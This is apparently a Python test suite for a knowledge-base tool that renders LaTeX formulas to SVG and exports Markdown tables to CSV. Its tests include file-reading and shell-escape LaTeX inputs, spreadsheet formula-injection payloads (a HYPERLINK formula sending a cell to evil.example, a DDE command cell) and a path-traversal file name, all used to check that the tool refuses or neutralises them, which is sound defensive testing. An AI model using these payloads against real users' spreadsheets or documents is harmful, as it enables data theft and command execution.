"""kbtools.render: formula SVGs (content-addressed, deterministic) and table CSVs."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hostile import GOOD_DOC, env, kb, make_repo
from hypothesis import given, settings
from hypothesis import strategies as st

from kbtools.corpus import parse_source, read_doc
from kbtools.errors import RenderError
from kbtools.markdown.doctree import parse
from kbtools.render import formula as fm
from kbtools.render.formula import (
    canonical_svg,
    formula_relpath,
    latex_problem,
    normalize_latex,
    render_formulas,
    render_svg,
)
from kbtools.render.table_csv import csv_name, duplicate_csv_names, render_tables, table_csv
from kbtools.render.tex_sandbox import typeset

FIX = Path(__file__).parent / "fixtures" / "chunk"
GOLDEN = Path(__file__).parent / "golden"
CJK = r"\text{用药量} = \frac{\text{面积} \times \text{剂量}}{1000}"
needs_latex = pytest.mark.skipif(fm.backend_problem() is not None,
                                 reason="LaTeX backend not installed (see docs/formulas.md)")


def doc_tables(text: str, rel: str):
    doc = parse(parse_source(text, Path("/tmp") / rel, rel))
    return [(rel, t) for t in doc.tables()]


# --- formulas -----------------------------------------------------------------------------

def test_relpath_is_sha256_of_normalised_latex():
    assert normalize_latex("  a +\n  b ") == "a+b"
    assert formula_relpath("a + b") == formula_relpath(" a  +\nb ") == formula_relpath("a+b")
    assert re.fullmatch(r"formulas/[0-9a-f]{64}\.svg", formula_relpath("x"))


# (as written, as named and drawn): the spaces TeX reads stay, the others go
SPACINGS = [
    ("E = m c^2", "E=m c^2"),  # (between letters: `\hspace{1p t}` is no `1pt`)
    (r"\begin{aligned} [t] x &= 1 \end{aligned}", r"\begin{aligned} [t]x&=1\end{aligned}"),
    (r"\frac {a} {b} + \alpha b", r"\frac{a}{b}+\alpha b"),  # `\alphab` is no command
    (r"\text{施药 液量} = Q", r"\text{施药 液量}=Q"),
    (r"\begin{cases} 1 & \text{if } x > 0 \\ 0 & \text{else} \end{cases}",
     r"\begin{cases}1&\text{if }x>0\\0&\text{else}\end{cases}"),
    (r"a \\ [2pt] b", r"a\\ [2pt]b"),  # amsmath: `[2pt]` after a space is text, no spacing
    (r"P = F / A \tag{式 3 . 1}", r"P=F/A\tag{式 3 . 1}"),  # a label is drawn as text
    (r"x \ y", r"x\ y"),  # a control space is a command
    (r"\boxed{$a b$ + c}", r"\boxed{$a b$+c}"),  # text inside `\boxed`'s math
]


@pytest.mark.parametrize(("written", "named"), [
    *SPACINGS,
    ("x' ^2 + y^ {2}", "x' ^2+y^{2}"),  # `x' ^2` is a double superscript, `x'^2` is not
    ("x^ ^2", "x^ ^2"),  # `^^` is TeX's character-code notation
    (r"\cfrac[ l]{a}{b} \\* [1pt]", r"\cfrac[ l]{a}{b}\\* [1pt]"),  # optional arguments
    ("x \\", "x\\"),  # a lone backslash at the end stays (and is refused)
])
def test_a_formula_is_named_by_the_spaces_tex_reads(written, named):
    """`$a+b$` and `$a + b$` were two SVG files (whitespace was only collapsed): one
    formula, two pictures in a release. A space TeX skips in math is no part of the name."""
    assert normalize_latex(written) == named
    assert normalize_latex(named) == named
    assert formula_relpath(written) == formula_relpath(named)


@needs_latex
def test_spacings_of_one_formula_share_one_svg_drawn_as_written(tmp_path):
    """One file for every spacing, the same bytes whichever a build meets first (a
    reproducible release), and what LaTeX draws from the formula as written (spaces and
    all) is what the file shows: its glyphs and their places, the title aside."""
    written = [w for w, _ in SPACINGS]
    first = render_formulas(written + [n for _, n in SPACINGS], tmp_path / "a")
    second = render_formulas([n for _, n in SPACINGS][::-1] + written, tmp_path / "b")
    assert len(set(first.values())) == len(SPACINGS)
    for (w, n) in SPACINGS:
        assert first[w] == first[n] == second[w]
        assert (tmp_path / "a" / first[w]).read_bytes() == (tmp_path / "b" / second[n]).read_bytes()
    drawn = fm._render(written, fm.FORMULA_SECONDS)  # as written, no normalising
    assert not drawn.failed
    untitled = re.compile(rb"<title>.*?</title>", re.S)
    for w in written:
        shipped = (tmp_path / "a" / first[w]).read_bytes()
        assert untitled.sub(b"", shipped) == untitled.sub(b"", drawn.svgs[w]), w


@pytest.mark.parametrize(("latex", "problem"), [
    (CJK, None),
    (r"\begin{cases} x & y \\ z & w \end{cases}", None),
    (r"\left( x \right)", None),
    (r"\{ a \}", None),
    ("", "empty formula"),
    ("\u00ad \u200b", "only invisible characters"),
    (r"\frac{a}{b", "unbalanced braces"),
    (r"a}", "unbalanced braces"),
    (r"\begin{foo} x \end{foo}", "unknown environment"),
    (r"\begin{cases} x \end{matrix}", "does not match"),
    (r"\begin{cases} x", "never ended"),
    (r"\left( x", r"\left and \right"),
    (r"\input{/etc/passwd}", "not allowed"),
    (r"\write18{ls}", "not allowed"),
    (r"a $ b", "'$' inside"),
])
def test_latex_problem(latex, problem):
    got = latex_problem(latex)
    if problem is None:
        assert got is None
    else:
        assert got is not None and problem in got


@needs_latex
def test_render_cjk_formula_to_svg_with_title(tmp_path):
    failures: dict[str, str] = {}
    got = render_formulas([CJK, "x^2", "  x^2 ", r"\frac{a}{b"], tmp_path, failures=failures)
    assert set(got) == {CJK, "x^2", "  x^2 "} and got["x^2"] == got["  x^2 "]
    assert failures == {r"\frac{a}{b": "unbalanced braces: 1 '{' not closed"}
    svg = (tmp_path / got[CJK]).read_text(encoding="utf-8")
    assert svg.startswith("<?xml") and "<!--" not in svg
    # the title holds the form it is named by: the spaces TeX skips in math left out
    assert "<title>\\text{用药量}=\\frac{\\text{面积}\\times\\text{剂量}}{1000}</title>" in svg
    assert "<text" not in svg and "font" not in svg  # glyphs are paths: no fonts needed
    # 6 distinct Chinese glyphs (用药量面积剂) + "=", "×", "1", "0": one path each
    assert len(re.findall(r"<path id='g\d+'", svg)) == 10


@needs_latex
def test_render_is_deterministic_and_cached(tmp_path):
    a = render_formulas(["x^2", CJK], tmp_path / "a")
    b = render_formulas([CJK], tmp_path / "b")  # other batch composition
    assert (tmp_path / "a" / a[CJK]).read_bytes() == (tmp_path / "b" / b[CJK]).read_bytes()
    assert render_svg(CJK) == (tmp_path / "a" / a[CJK]).read_bytes()
    target = tmp_path / "a" / a["x^2"]
    marker = (tmp_path / "a" / a[CJK]).read_bytes()  # a clean SVG, not x^2's
    target.write_bytes(marker)  # an existing clean content-addressed file is not re-rendered
    assert render_formulas(["x^2"], tmp_path / "a") == {"x^2": a["x^2"]}
    assert target.read_bytes() == marker


@needs_latex
def test_latex_error_is_reported_not_raised(tmp_path):
    failures: dict[str, str] = {}
    # passes the static check (docs/formulas.md's known gaps: it does not read what
    # `\cfrac[l…]` sets in the alphabet around it), stops LaTeX: msbm10 has no b
    bad = "\\mathbb{\\cfrac[lb]{x}{y}}"
    assert latex_problem(bad) is None
    got = render_formulas(["x", bad, "y"], tmp_path, failures=failures)
    assert set(got) == {"x", "y"}
    assert failures == {bad: "LaTeX has no glyph for a character of this formula (font "
                             "msbm10); write it as a command (\\alpha, \\leq) or leave it out"}
    with pytest.raises(RenderError, match="no glyph"):
        render_svg(bad)


def drawn(svg: bytes) -> bytes:
    """What an SVG draws: its bytes without the <title> (the formula as written)."""
    return re.sub(rb"<title>.*?</title>", b"", svg, flags=re.S)


@needs_latex
@pytest.mark.parametrize(("typed", "command"), [
    ("α + β = γ", r"\alpha + \beta = \gamma"),  # as an input method types them
    ("x ≤ 2 × y", r"x \leq 2 \times y"),  # ≤ was drawn as the "d" of the same code
    ("⌈x⌉ + 100㎡ + 5℉", r"\lceil x\rceil + 100\mathrm{m}^2 + 5{}^\circ\mathrm{F}"),
    ("x^α_{温度}", r"x^\alpha_{\text{温}\text{度}}"),
    ("温度 = 25℃ ± 0.5°", r"\text{温}\text{度} = 25\text{℃} \pm 0.5\text{°}"),
    (r"\operatorname{温度} \mathrm{风速}", r"\operatorname{\text{温}\text{度}} \mathrm{\text{风}\text{速}}"),
    (r"25\textcelsius", r"25\text{\textcelsius}"),
    (r"\text{温度 α} = 5", r"\text{温度 α} = 5"),  # text mode: CJKutf8 draws it as written
    ("a\u200bb + \\text{温\u200b度}", r"ab + \text{温度}"),  # a zero-width space has no glyph
])
def test_unicode_in_math_mode_is_drawn(typed, command):
    """Typora and Obsidian (MathJax) draw Greek, symbols and Chinese typed in math mode;
    TeX's math fonts have none of them and used to drop them from the SVG without a word."""
    assert drawn(render_svg(typed)) == drawn(render_svg(command))


@needs_latex
def test_a_character_without_a_glyph_fails_instead_of_vanishing(tmp_path):
    failures: dict[str, str] = {}
    got = render_formulas([r"\text{♥} x", "x"], tmp_path, failures=failures)
    assert set(got) == {"x"}
    assert "U+2665" in failures[r"\text{♥} x"]  # the static check names it before LaTeX
    # and LaTeX itself, should such a character ever reach it, stops rather than drop it
    (tmp_path / "tex").mkdir()
    run = typeset([r"\text{♥} x"], tmp_path / "tex")
    assert not run.ok and run.culprit == 0
    assert run.reason.startswith(
        "LaTeX has no glyph for a character of this formula (font gbsnu26)")


@needs_latex
def test_a_headings_formula_and_image_ship_with_the_release(tmp_path):
    doc = GOOD_DOC + "\n## 3.2 $\\beta$ 系数 ![图标](../assets/icon.png)\n\nText.\n"
    repo = make_repo(tmp_path / "repo", docs={"knowledge/beta.md": doc}, commit=False)
    (repo / "assets" / "icon.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    make_repo(repo)
    out = kb(repo, "build", home=tmp_path / "home")
    assert out.returncode == 0, out.stderr.decode()
    data = repo / "dist" / "data"
    assert (data / formula_relpath(r"\beta")).is_file()  # the web page shows it, not LaTeX
    assert (data / "source" / "assets" / "icon.png").is_file()


@needs_latex
def test_svgs_another_renderer_cached_are_drawn_again(tmp_path):
    """An SVG's name is a hash of its formula only: the SVG an older renderer kept for `α`
    (drawn without the α) must not outlive it in the build cache."""
    cache, other = tmp_path / "cache", render_svg("x")  # clean, but not a drawing of α
    (cache / "formulas").mkdir(parents=True)
    (cache / formula_relpath("α")).write_bytes(other)
    got = fm.render_cached(["α"], tmp_path / "a", cache, {})
    assert (tmp_path / "a" / got["α"]).read_bytes() == render_svg("α") != other
    (cache / got["α"]).write_bytes(other)  # this renderer's own cache is used as it is
    fm.render_cached(["α"], tmp_path / "b", cache, {})
    assert (tmp_path / "b" / got["α"]).read_bytes() == other


def test_missing_backend_says_what_to_install(tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path))
    fm.backend_problem.cache_clear()
    try:
        with pytest.raises(RenderError, match=r"apt-get install texlive-latex-base .*dvisvgm"):
            render_formulas(["x"], tmp_path / "out")
        assert render_formulas([], tmp_path / "out") == {}
    finally:
        fm.backend_problem.cache_clear()


def test_canonical_svg_renumbers_ids_and_drops_variable_parts():
    raw = ("<?xml version='1.0' encoding='UTF-8'?>\n<!-- This file was generated by dvisvgm 3.0.3 -->\n"
           "<svg version='1.1' xmlns='http://www.w3.org/2000/svg' "
           "xmlns:xlink='http://www.w3.org/1999/xlink' width='1pt' height='1pt' viewBox='0 0 1 1'>\n"
           "<defs>\n<path id='g3-5' d='M1 1'/>\n<path id='g0-9' d='M2 2'/>\n</defs>\n"
           "<g id='page7'>\n<use x='1' y='1' xlink:href='#g0-9'/>\n<use x='2' y='1' xlink:href='#g3-5'/>\n"
           "</g>\n</svg>")
    out = canonical_svg(raw, "a < b").decode()
    assert "<!--" not in out and "page7" not in out
    assert "<title>a &lt; b</title>" in out
    assert out.index("id='g1' d='M2 2'") < out.index("id='g2' d='M1 1'")
    assert "xlink:href='#g1'" in out and "xlink:href='#g2'" in out


# --- tables -------------------------------------------------------------------------------

def test_csv_names_from_annotation_or_doc_and_index():
    rich = parse(read_doc(FIX / "rich.md", FIX))
    (t,) = list(rich.tables())
    assert csv_name("rich.md", t) == "hx3-fault-codes.csv"
    tables = doc_tables("| a |\n|---|\n| 1 |\n\n<!-- csv: named -->\n| b |\n|---|\n| 2 |\n",
                        "k/crops/wheat.md")
    assert [csv_name(r, t) for r, t in tables] == ["wheat-1.csv", "named.csv"]


def test_table_csv_bytes_match_golden(tmp_path):
    rich = parse(read_doc(FIX / "rich.md", FIX))
    written = render_tables([("rich.md", t) for t in rich.tables()], tmp_path)
    assert written == {"hx3-fault-codes.csv": "rich.md"}
    data = (tmp_path / "hx3-fault-codes.csv").read_bytes()
    assert data == (GOLDEN / "hx3-fault-codes.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8 Chinese correctly
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["故障码", "含义", "处理"] and rows[3] == ["E30", "电压异常\n低于 10 V", "检查电池"]


def test_table_csv_quotes_and_pads():
    (_, t), = doc_tables('| a | b |\n|---|---|\n| x, "y" | |\n', "d.md")
    assert table_csv(t) == '\ufeffa,b\r\n"x, ""y""",\r\n'.encode()


def test_table_csv_keeps_a_cells_line_breaks():
    """Typora writes Shift+Enter in a table cell as `<br>`: the CSV joined the cell's lines
    with spaces (`1. 断电 2. 复位 3. 重启`); a spreadsheet now shows them as the page does,
    on lines of their own in one cell. The row's chunk text still reads them as spaces."""
    md = ("| 故障码 | 处理<br>步骤 |\n|---|---|\n| E17 | 1. 断电<br>2. 复位<br/>3. **重启** |\n"
          "| E18 | 检查<BR >油位 |\n| E19 | =A1<br>x |\n| E20 | 无 |\n")
    (_, t), = doc_tables(md, "d.md")
    rows = list(csv.reader(io.StringIO(table_csv(t).decode("utf-8-sig"), newline="")))
    assert rows == [["故障码", "处理\n步骤"], ["E17", "1. 断电\n2. 复位\n3. 重启"],
                    ["E18", "检查\n油位"], ["E19", "'=A1\nx"], ["E20", "无"]]
    assert t.rows[0] == ("E17", "1. 断电 2. 复位 3. 重启")


def test_table_csv_runs_no_formula_in_a_spreadsheet():
    """A table cell a pull request wrote as `=HYPERLINK(…)` or `+cmd|' /C calc'!A0` was
    written to the CSV as is: a technician opening it in Excel or WPS ran it. A cell a
    spreadsheet takes for a formula now opens with `'` (shown as text); numbers and a
    lone dash stay values."""
    md = ("| 代码 | 处理 |\n|---|---|\n"
          '| =HYPERLINK("http://evil.example/?"&A1,"点击") | +cmd\\|\' /C calc\'!A0 |\n'
          "| -2+3 | @SUM(1+1) |\n| -5 | +3.5 |\n| -1,200 | -20% |\n| - | -5~0 ℃ |\n"
          "| ＝1+1 | a=1 |\n| =标题 | 正常 |\n")
    (_, t), = doc_tables(md, "d.md")
    rows = list(csv.reader(io.StringIO(table_csv(t).decode("utf-8-sig"))))
    assert rows == [["代码", "处理"],
                    ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+cmd|' /C calc'!A0"],
                    ["'-2+3", "'@SUM(1+1)"], ["-5", "+3.5"], ["-1,200", "-20%"],
                    ["-", "'-5~0 ℃"], ["＝1+1", "a=1"], ["'=标题", "正常"]]


def test_duplicate_and_unsafe_csv_names(tmp_path):
    one = doc_tables("<!-- csv: same.csv -->\n| a |\n|---|\n| 1 |\n", "x/a.md")
    two = doc_tables("<!-- csv: Same.csv -->\n| b |\n|---|\n| 2 |\n", "y/b.md")
    dups = duplicate_csv_names(one + two)
    assert [(a.doc, b.doc, b.name, b.line) for a, b in dups] == [("x/a.md", "y/b.md", "Same.csv", 2)]
    assert duplicate_csv_names(one) == []
    same = doc_tables("<!-- csv: same.csv -->\n| b |\n|---|\n| 2 |\n", "y/b.md")
    with pytest.raises(RenderError, match="y/b.md:2: csv name 'same.csv' is already used by x/a.md"):
        render_tables(one + same, tmp_path)
    bad = doc_tables("<!-- csv: ../evil.csv -->\n| b |\n|---|\n| 2 |\n", "z.md")
    with pytest.raises(RenderError, match="not a plain file name"):
        render_tables(bad, tmp_path)
    assert not (tmp_path.parent / "evil.csv").exists()


KILL_IN_LATEX = """
import os, signal, sys
from pathlib import Path
from kbtools.build.pipeline import BuildOptions, build
from kbtools.config import load_config
from kbtools.render import formula
def typeset(formulas, tmp, seconds):
    os.kill(os.getpid(), signal.SIGKILL)  # killed while LaTeX runs
formula.typeset = typeset
build(load_config(Path(sys.argv[1])), BuildOptions(out=Path(sys.argv[1]) / "dist"))
"""


@needs_latex
def test_a_build_killed_while_latex_runs_leaves_no_temporary_directory(tmp_path):
    """LaTeX's run directory used to be /tmp/kb-formula-*, left there for good by a build
    killed while rendering; it is made inside the build's staging dir, which the next build
    removes."""
    doc = GOOD_DOC + "\nThe flow is $q = \\frac{V}{t}$.\n"
    repo = make_repo(tmp_path / "repo", docs={"knowledge/flow.md": doc})
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    run_env = {**env(tmp_path / "home"), "TMPDIR": str(tmpdir)}
    killed = subprocess.run([sys.executable, "-c", KILL_IN_LATEX, str(repo)], env=run_env,
                            capture_output=True, text=True, timeout=300)
    assert killed.returncode == -9, killed.stderr
    assert list(tmpdir.iterdir()) == []
    out = kb(repo, "build", home=tmp_path / "home")
    assert out.returncode == 0, out.stderr.decode()
    assert (repo / "dist" / "data" / formula_relpath(r"q = \frac{V}{t}")).is_file()
    assert sorted(p.name for p in repo.iterdir() if p.name.startswith(".dist")) == []


@needs_latex
def test_a_tag_is_drawn_at_the_formula_s_right(tmp_path):
    """`\\tag{1}` shows `(1)` after the formula, `\\tag*{A}` shows `A`; the title keeps the
    source as written."""
    forms = ["x", r"x \tag{1}", r"x \tag*{1}", r"\tag{1} x", r"x \tag{式}"]
    failures: dict[str, str] = {}
    got = render_formulas(forms, tmp_path, failures=failures)
    assert failures == {} and set(got) == set(forms)
    svg = {f: (tmp_path / got[f]).read_text(encoding="utf-8") for f in forms}

    def glyphs(f: str) -> int:
        return len(re.findall(r"<path id='g\d+'", svg[f]))

    def width(f: str) -> float:
        return float(re.search(r"<svg[^>]* width='([\d.]+)pt'", svg[f]).group(1))

    assert glyphs("x") == 1 and glyphs(r"x \tag*{1}") == 2  # x, then 1
    assert glyphs(r"x \tag{1}") == 4  # x ( 1 )
    assert svg[r"x \tag{1}"].split("<title>")[0] == svg[r"\tag{1} x"].split("<title>")[0]
    assert width(r"x \tag{1}") > width(r"x \tag*{1}") > width("x") + 15  # \qquad: 2em
    assert glyphs(r"x \tag{式}") == 4  # the label is text: a Chinese character is drawn
    assert r"<title>x\tag{1}</title>" in svg[r"x \tag{1}"]


def test_kb_check_passes_exactly_the_tag_labels_latex_draws(tmp_path):
    """A label is set as text: what the check accepts in it LaTeX draws, and what LaTeX
    cannot draw there (a math command, `^`, `_`, `&`) the check refuses, before a build."""
    labels = [r"\alpha", "a^2", "a_1", "a&b", r"\frac{1}{2}", r"\textbf{2}", "式 1", r"\{1\}",
              r"\textcelsius"]
    forms = [f"x \\tag{{{label}}}" for label in labels]
    failures: dict[str, str] = {}
    got = render_formulas(forms, tmp_path, failures=failures)
    for form in forms:
        assert (latex_problem(form) is None) == (form in got), (form, latex_problem(form),
                                                               failures.get(form))
    assert len(got) == 4


FORMULA_PIECES = ["x", "m", "c", "1", "2", "pt", "em", "'", "^", "_", "{", "}", "[", "]", "*",
                  "&", "=", "+", " ", "  ", r"\alpha", r"\frac", r"\text{a b}", r"\text{",
                  r"\\", r"\ ", r"\hspace{", r"\mkern", "mu", r"\tag{", r"\sqrt",
                  r"\begin{aligned}", r"\end{aligned}", r"\cfrac", "$", "温"]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(FORMULA_PIECES), max_size=14))
def test_normalising_a_formula_never_changes_whether_it_is_allowed(pieces):
    """`kb check` checks the formula as written, the build the form it names and draws:
    leaving out the spaces TeX skips must never turn one into the other's verdict."""
    written = "".join(pieces)
    named = normalize_latex(written)
    assert normalize_latex(named) == named
    assert (latex_problem(" ".join(written.split())) is None) == (latex_problem(named) is None)
